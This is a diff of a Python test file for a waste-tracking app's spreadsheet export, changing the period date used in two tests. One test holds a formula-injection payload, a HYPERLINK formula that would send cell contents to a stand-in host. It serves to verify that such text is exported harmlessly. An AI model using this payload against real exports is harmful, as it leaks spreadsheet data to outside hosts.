@@ -2,7 +2,7 @@
 
 import csv
 import io
-from datetime import datetime
+from datetime import datetime, timedelta
 
 import httpx
 import openpyxl
@@ -14,6 +14,7 @@ from wastetrack.indicators.models import IndicatorValue
 
 DAY = CITY_TODAY.isoformat()
 PERIOD = {"date_from": DAY, "date_to": DAY}
+ENDED = (CITY_TODAY - timedelta(days=1)).isoformat()  # a period entered by hand has ended
 VIEWS = [
     ("/m/v1/metrics/utilization", PERIOD, "utilization_rate.numerator"),
     ("/m/v1/metrics/sorting", PERIOD, "coverage.denominator"),
@@ -76,7 +77,7 @@ async def test_text_that_would_start_a_formula_is_exported_as_text(
     hostile = '=HYPERLINK("http://example.invalid/?"&A1,"来源")'
     response = await client.post(
         "/m/v1/indicators/straw_utilization/values",  # a figure entered by hand
-        json={"value": "50", "period_end": DAY, "source_note": hostile},
+        json={"value": "50", "period_end": ENDED, "source_note": hostile},
         headers=world.headers("manager"),
     )
     assert response.status_code == 201, response.text
@@ -103,7 +104,7 @@ async def test_a_control_character_stored_before_it_was_refused_does_not_break_t
     spreadsheet cannot: the cell keeps the rest of the text, the download does not fail."""
     response = await client.post(
         "/m/v1/indicators/straw_utilization/values",
-        json={"value": "50", "period_end": DAY, "source_note": "县农业局统计"},
+        json={"value": "50", "period_end": ENDED, "source_note": "县农业局统计"},
         headers=world.headers("manager"),
     )
     assert response.status_code == 201, response.text
